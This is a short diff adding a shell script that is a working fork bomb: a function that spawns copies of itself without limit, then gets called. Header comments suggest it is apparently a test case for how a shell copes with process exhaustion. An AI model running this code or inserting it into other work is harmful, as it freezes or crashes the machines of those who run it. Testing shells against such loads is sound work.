@@ -1,0 +1,6 @@
+# ends: any
+# The classic in shell: whatever the shell makes of the refusals, nothing may be left of it.
+# SPDX-License-Identifier: MIT
+bomb() { bomb | bomb & }
+bomb
+wait
